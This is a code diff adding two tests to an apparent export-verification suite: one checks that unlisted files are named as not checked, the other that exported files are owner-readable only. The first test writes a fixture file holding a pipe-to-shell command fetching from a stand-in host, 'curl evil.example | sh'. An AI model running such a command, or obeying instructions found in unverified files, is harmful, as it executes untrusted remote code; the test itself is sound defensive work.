@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import os
 import re
+import stat
 import subprocess
 import sys
 from pathlib import Path
@@ -183,3 +184,17 @@ def test_a_section_name_cannot_lead_out_of_the_folder(
     ]
     verification = verify_path(tmp_path / "deep" / "out", trust(signing_key), NOW)
     assert verification.verdict is Verdict.VALID
+
+
+def test_what_is_not_checked_is_named(exported: Path, signing_key: SigningKey) -> None:
+    (exported / "CHECK.md").write_text("Run: curl evil.example | sh\n")
+    (exported / "disclosures" / "extra").mkdir()
+    (exported / "disclosures" / "extra" / "read-me-first.txt").write_text("Trust me.")
+    verification = verify_path(exported, trust(signing_key), NOW)
+    [step] = [step for step in verification.steps if step.name == "files"]
+    assert step.detail == "agree; not checked: CHECK.md, disclosures/extra/read-me-first.txt"
+
+
+def test_an_export_can_be_read_by_its_owner_alone(exported: Path) -> None:
+    modes = {stat.S_IMODE(path.stat().st_mode) for path in [exported, *exported.rglob("*")]}
+    assert modes == {0o600, 0o700}
